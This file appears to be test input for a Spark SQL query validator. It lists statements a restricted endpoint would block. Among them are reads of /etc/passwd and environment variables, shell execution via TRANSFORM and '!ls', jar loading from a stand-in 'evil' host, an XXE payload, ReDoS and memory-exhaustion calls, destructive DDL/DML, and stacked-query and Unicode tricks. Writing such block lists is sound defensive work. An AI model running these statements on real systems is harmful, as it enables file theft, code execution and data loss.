-- files by path, of every format
SELECT * FROM csv.`/etc/passwd`
SELECT * FROM text.`/etc/passwd`
SELECT * FROM json.`/etc/passwd`
SELECT * FROM parquet.`/tmp`
SELECT * FROM orc.`/tmp`
SELECT * FROM avro.`/tmp/x.avro`
SELECT * FROM binaryFile.`/etc/passwd`
SELECT * FROM delta.`/tmp/lake/silver/scored_urls`
SELECT * FROM image.`/tmp`
SELECT * FROM libsvm.`/tmp`
SELECT * FROM csv.`file:///etc/passwd`
SELECT * FROM csv.`hdfs://namenode/etc`
SELECT * FROM csv.`s3a://bucket/key`
SELECT * FROM `csv`.`/etc/passwd`
SELECT * FROM `org.apache.spark.sql.execution.datasources.csv.CSVFileFormat`.`/etc/passwd`
SELECT * FROM spark_catalog.csv.`/etc/passwd`
TABLE csv.`/etc/passwd`
SELECT * FROM read_files('/etc/passwd')
SELECT * FROM hive.default.x
SELECT _metadata.file_path FROM gold.publications
SELECT p._METADATA.file_name FROM gold.publications p
SELECT `_metadata` FROM gold.domain_rates
SELECT _metadata.* FROM gold.publications
SELECT p._metadata.* FROM gold.publications p
SELECT count(*) FROM gold.publications WHERE _metadata.file_size > 0
-- other schemas and catalogs
SELECT * FROM silver.scored_urls
SELECT * FROM bronze.urls
SELECT * FROM bronze.quarantine
SELECT * FROM registry.models
SELECT * FROM information_schema.tables
SELECT * FROM system.builtin.x
SELECT * FROM global_temp.x
SELECT * FROM spark_catalog.silver.scored_urls
SELECT * FROM other.gold.domain_rates
USE silver
USE other_catalog.gold
USE CATALOG other
SET CATALOG other
SHOW TABLES IN silver
SHOW DATABASES IN other
DESCRIBE silver.scored_urls
DESCRIBE delta.`/tmp/lake`
SHOW COLUMNS IN bronze.urls
-- code
SELECT java_method('java.lang.System', 'exit', 1)
SELECT reflect('java.lang.System', 'getenv', 'HOME')
SELECT try_reflect('java.lang.System', 'getProperty', 'user.home')
SELECT `java_method`('java.lang.Runtime', 'getRuntime')
SELECT count(*) FROM gold.domain_rates WHERE reflect('java.lang.System', 'getenv', 'PATH') = ''
SELECT registered_domain FROM gold.domain_rates ORDER BY java_method('java.lang.System', 'nanoTime')
SELECT urls FROM gold.domain_rates GROUP BY urls HAVING max(reflect('java.lang.System', 'getenv', 'PATH')) > ''
SELECT rank() OVER w FROM gold.domain_rates WINDOW w AS (ORDER BY java_method('java.lang.System', 'nanoTime'))
SELECT TRANSFORM(registered_domain) USING 'id' AS x FROM gold.domain_rates
SELECT TRANSFORM(1) USING '/bin/sh -c id'
FROM gold.domain_rates MAP registered_domain USING 'cat' AS x
FROM gold.domain_rates REDUCE registered_domain USING 'cat' AS x
CREATE FUNCTION f AS 'com.evil.Udf' USING JAR '/tmp/evil.jar'
CREATE TEMPORARY FUNCTION f AS 'com.evil.Udf'
CREATE OR REPLACE TEMPORARY FUNCTION f AS 'com.evil.Udf' USING JAR 'http://evil/x.jar'
DROP FUNCTION f
DROP TEMPORARY FUNCTION IF EXISTS f
REFRESH FUNCTION f
DESCRIBE FUNCTION EXTENDED abs
DESCRIBE FUNCTION java_method
ADD JAR /tmp/evil.jar
ADD JAR 'http://evil/x.jar'
ADD FILE /etc/passwd
ADD FILES /etc/passwd /etc/hosts
ADD ARCHIVE /tmp/x.zip
LIST JARS
LIST FILES
LIST ARCHIVES
LIST JAR
-- functions that tell of the server or make much out of little
SELECT input_file_name() FROM gold.domain_rates
SELECT input_file_block_start() FROM gold.domain_rates
SELECT input_file_block_length() FROM gold.domain_rates
SELECT session_user()
SELECT repeat('x', 2000000000)
SELECT space(2000000000)
SELECT lpad('x', 2000000000, 'y')
SELECT rpad('x', 10000 * 10000, 'y')
SELECT format_number(1, 2000000000)
SELECT format_number(1, concat('0', '0'))
SELECT round(1.5, 2000000000)
SELECT bround(urls, -2000000000) FROM gold.domain_rates
SELECT floor(malicious_rate, urls) FROM gold.domain_rates
SELECT window(published_at, '1000 days', '1 second') FROM gold.publications
SELECT count(*) FROM gold.publications GROUP BY window(published_at, '1 day', '1 second', '1 minute')
SELECT approx_count_distinct(urls, 0.0001) FROM gold.domain_rates
SELECT approx_count_distinct(urls, 0.01 / 100) FROM gold.domain_rates
SELECT percentile_approx(urls, 0.5, 2147483647) FROM gold.domain_rates
SELECT approx_percentile(urls, array(0.5), 100000 + 1) FROM gold.domain_rates
SELECT format_string('%2000000000d', 1)
SELECT printf('%2000000000d', 1)
SELECT explode(sequence(1, 1000000000))
SELECT count(*) FROM gold.type_rates LATERAL VIEW explode(array(1)) a LATERAL VIEW explode(array(1)) b LATERAL VIEW explode(array(1)) c LATERAL VIEW explode(array(1)) d
SELECT posexplode(array(a)) FROM (SELECT explode(array(b)) AS a FROM (SELECT explode_outer(array(c)) AS b FROM (SELECT explode(array(1)) AS c)))
SELECT count(*) FROM gold.domain_rates GROUP BY CUBE (urls, urls + 1, urls + 2, urls + 3, urls + 4, urls + 5, urls + 6, urls + 7, urls + 8)
SELECT count(*) FROM gold.domain_rates GROUP BY urls, urls + 1, urls + 2, urls + 3, urls + 4, urls + 5, urls + 6, urls + 7, urls + 8 WITH CUBE
SELECT count(*) FROM gold.domain_rates GROUP BY CUBE (urls, urls + 1, urls + 2, urls + 3, urls + 4), ROLLUP (urls + 5, urls + 6, urls + 7, urls + 8), CUBE (urls + 9)
SELECT count(*) FROM gold.domain_rates GROUP BY GROUPING SETS (CUBE (urls, urls + 1, urls + 2, urls + 3, urls + 4, urls + 5, urls + 6, urls + 7, urls + 8))
SELECT array_repeat('x', 2000000000)
SELECT * FROM range(1000000000000)
SELECT * FROM range(0, 10, 1, 1000000)
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' RLIKE '(a+)+$'
SELECT regexp_replace('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '(a*)*b', '')
SELECT count(*) FROM gold.domain_rates WHERE registered_domain RLIKE registered_domain
SELECT '!aaaaaaaaaaaaaaaaaaaaaaaaaaa' RLIKE 'a*a*a*a*a*a*b'
SELECT '!aaaaaaaaaaaaaaaaaaaaaaaaaaa' RLIKE '(a|a)*b'
SELECT '!aaaaaaaaaaaaaaaaaaaaaaaaaaa' LIKE '%a%a%a%a%a%b'
SELECT 'aaaaaaaaaaa!' NOT ILIKE '%a%a%a%a%a%b'
SELECT 'aaaaaaaaaaa!' LIKE concat('%a%a%a', '%a%a%b')
SELECT 'aaaaaaaaaaa!' LIKE ANY ('a', '%a%a%a%a%a%b')
SELECT 'aaaaaaaaaaa!' NOT LIKE ALL ('a', '%a%a%a%a%a%b')
SELECT 'aaaaaaaaaaa!' ILIKE SOME ('a', '%a%a%a%a%a%b')
SELECT like('aaaaaaaaaaa!', '%a%a%a%a%a%b')
SELECT ilike('aaaaaaaaaaa!', '%%%%%%b')
SELECT count(*) FROM gold.domain_rates WHERE registered_domain LIKE public_suffix
SELECT parse_url('http://x.example/?a=b', 'QUERY', 'a*a*a*a*a*b')
SHOW TABLES LIKE '******z'
SHOW TABLES IN gold LIKE '(a+)+'
SHOW VIEWS IN gold LIKE '*a*a*a*a*a*b'
SHOW DATABASES LIKE '.+.+.+z'
SHOW FUNCTIONS LIKE '*a*a*a*a*a*b'
SHOW CATALOGS LIKE '*a*a*a*a*a*b'
SELECT xpath('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', '/a/text()')
SELECT schema_of_csv('a,b')
SELECT assert_true(false)
SELECT raise_error('x')
SELECT aes_decrypt(unhex('00'), '0000111122223333')
SELECT spark_partition_id() FROM gold.domain_rates
SELECT gold.f(1)
SELECT stack(1000000, 1)
-- DDL
DROP TABLE gold.domain_rates
DROP TABLE IF EXISTS gold.domain_rates PURGE
DROP VIEW gold.top_malicious_domains
DROP DATABASE gold CASCADE
DROP SCHEMA IF EXISTS gold
CREATE TABLE x (a INT)
CREATE TABLE gold.x (a INT) USING csv
CREATE TABLE x USING csv OPTIONS (path '/etc/passwd')
CREATE TABLE x AS SELECT 1
CREATE TABLE x LIKE gold.domain_rates
CREATE OR REPLACE TABLE gold.domain_rates USING delta AS SELECT 1
CREATE EXTERNAL TABLE x (a STRING) LOCATION '/etc'
CREATE TABLE x SHALLOW CLONE gold.domain_rates
CREATE DATABASE x LOCATION '/tmp/x'
CREATE SCHEMA x
CREATE VIEW v AS SELECT 1
CREATE TEMPORARY VIEW v AS SELECT 1
CREATE TEMPORARY VIEW v USING csv OPTIONS (path '/etc/passwd')
CREATE GLOBAL TEMPORARY VIEW v AS SELECT 1
CREATE OR REPLACE TEMP VIEW domain_rates AS SELECT 1 AS urls
ALTER TABLE gold.domain_rates SET LOCATION '/tmp/evil'
ALTER TABLE gold.domain_rates RENAME TO x
ALTER TABLE gold.domain_rates ADD COLUMNS (x INT)
ALTER TABLE gold.domain_rates DROP COLUMN urls
ALTER TABLE gold.domain_rates SET TBLPROPERTIES ('a' = 'b')
ALTER TABLE gold.domain_rates RECOVER PARTITIONS
ALTER VIEW gold.top_malicious_domains AS SELECT 1
ALTER DATABASE gold SET LOCATION '/tmp'
COMMENT ON TABLE gold.domain_rates IS 'x'
COMMENT ON DATABASE gold IS 'x'
TRUNCATE TABLE gold.domain_rates
MSCK REPAIR TABLE gold.domain_rates
ANALYZE TABLE gold.domain_rates COMPUTE STATISTICS
REFRESH TABLE gold.domain_rates
REFRESH '/tmp'
CACHE TABLE gold.domain_rates
CACHE LAZY TABLE x AS SELECT * FROM gold.domain_rates
UNCACHE TABLE gold.domain_rates
CLEAR CACHE
-- DML
INSERT INTO gold.domain_rates SELECT * FROM gold.domain_rates
INSERT OVERWRITE gold.domain_rates SELECT * FROM gold.domain_rates
INSERT OVERWRITE DIRECTORY '/tmp/x' USING csv SELECT * FROM gold.domain_rates
INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT 1
INSERT INTO csv.`/tmp/x` SELECT 1
FROM gold.domain_rates INSERT INTO gold.domain_daily SELECT * INSERT INTO gold.type_rates SELECT *
UPDATE gold.domain_rates SET urls = 0
DELETE FROM gold.domain_rates
MERGE INTO gold.domain_rates t USING gold.domain_rates s ON t.urls = s.urls WHEN MATCHED THEN DELETE
LOAD DATA INPATH '/etc/passwd' INTO TABLE gold.domain_rates
LOAD DATA LOCAL INPATH '/etc/passwd' OVERWRITE INTO TABLE gold.domain_rates
-- Delta's own
VACUUM gold.domain_rates RETAIN 0 HOURS
VACUUM delta.`/tmp/lake/gold/domain_rates`
OPTIMIZE gold.domain_rates
OPTIMIZE gold.domain_rates ZORDER BY (urls)
RESTORE TABLE gold.domain_rates TO VERSION AS OF 0
DESCRIBE HISTORY gold.domain_rates
DESCRIBE DETAIL gold.domain_rates
DESCRIBE DETAIL '/tmp'
GENERATE symlink_format_manifest FOR TABLE gold.domain_rates
CONVERT TO DELTA parquet.`/tmp`
ALTER TABLE gold.domain_rates ADD CONSTRAINT c CHECK (urls > 0)
REORG TABLE gold.domain_rates APPLY (PURGE)
SELECT * FROM gold.domain_rates VERSION AS OF 0
SELECT * FROM gold.domain_rates TIMESTAMP AS OF '2026-01-01'
SELECT * FROM gold.domain_rates@v0
SELECT * FROM table_changes('gold.domain_rates', 0)
-- settings
SET spark.sql.hive.version=4.0.0
SET spark.sql.runSQLOnFiles=true
SET spark.sql.extensions=com.evil.Ext
SET spark.sql.warehouse.dir=/tmp/x
SET spark.sql.catalog.evil=com.evil.Catalog
SET spark.sql.defaultCatalog=evil
SET spark.jars=/tmp/evil.jar
SET spark.sql.thriftServer.incrementalCollect=false
SET spark.sql.thriftServer.queryTimeout=0
SET spark.sql.thriftserver.scheduler.pool=other
SET spark.sql.variable.substitute=true
SET spark.sql.shuffle.partitions=1000000000
SET spark.sql.redaction.string.regex=x
SET spark.driver.host
SET spark.sql.warehouse.dir
SET spark.hadoop.fs.s3a.secret.key
SET hivevar:x=1
SET hiveconf:hive.exec.pre.hooks=com.evil.Hook
SET system:user.home
SET env:HOME
SET spark.sql.session.timeZone=${env:HOME}
RESET
RESET spark.sql.ansi.enabled
SET ROLE admin
-- what shows too much
SHOW CREATE TABLE gold.domain_rates
SHOW TABLE EXTENDED IN gold LIKE '*'
SHOW TBLPROPERTIES gold.domain_rates
SHOW PARTITIONS gold.domain_rates
DESCRIBE DATABASE EXTENDED gold
EXPLAIN CODEGEN SELECT 1
EXPLAIN DROP TABLE gold.domain_rates
EXPLAIN SELECT * FROM csv.`/etc/passwd`
DESCRIBE QUERY SELECT * FROM csv.`/etc/passwd`
-- hints
SELECT /*+ REPARTITION(1000000) */ * FROM gold.domain_rates
SELECT /*+ BROADCAST(domain_daily) */ * FROM gold.domain_rates JOIN gold.domain_daily USING (registered_domain)
SELECT /*+ COALESCE(1) */ * FROM gold.domain_rates
-- tricks
SELECT 1; DROP TABLE gold.domain_rates
SELECT 1 /* */; DROP TABLE gold.domain_rates --
/* SELECT 1 */ DROP TABLE gold.domain_rates
SELECT * FROM IDENTIFIER('csv.`/etc/passwd`')
SELECT IDENTIFIER('java_method')('java.lang.System', 'exit', 1)
WITH x AS (SELECT * FROM csv.`/etc/passwd`) SELECT * FROM x
WITH x AS (WITH y AS (SELECT reflect('java.lang.System', 'getenv', 'HOME')) SELECT * FROM y) SELECT * FROM x
SELECT (SELECT first(_c0) FROM csv.`/etc/passwd`)
SELECT * FROM gold.domain_rates WHERE EXISTS (SELECT 1 FROM text.`/etc/passwd`)
SELECT * FROM gold.domain_rates WHERE registered_domain IN (SELECT value FROM text.`/etc/passwd`)
SELECT * FROM (VALUES (java_method('java.lang.System', 'nanoTime')))
SELECT 1 UNION ALL SELECT * FROM text.`/etc/passwd`
SELECT * FROM gold.domain_rates, LATERAL (SELECT * FROM text.`/etc/passwd`)
SELECT CASE WHEN true THEN reflect('java.lang.System', 'getenv', 'HOME') END
SELECT transform(array(1), x -> java_method('java.lang.System', 'exit', x))
SELECT * FROM gold.domain_rates LATERAL VIEW stack(2, 1, 2) s
EXECUTE IMMEDIATE 'DROP TABLE gold.domain_rates'
DECLARE VARIABLE x INT
CALL system.proc()
GRANT ALL ON gold.domain_rates TO me
dfs -ls /
!ls
DROP\u0020TABLE gold.domain_rates
ＤＲＯＰ TABLE gold.domain_rates
SELECT * FROM ｃｓｖ.`/etc/passwd`
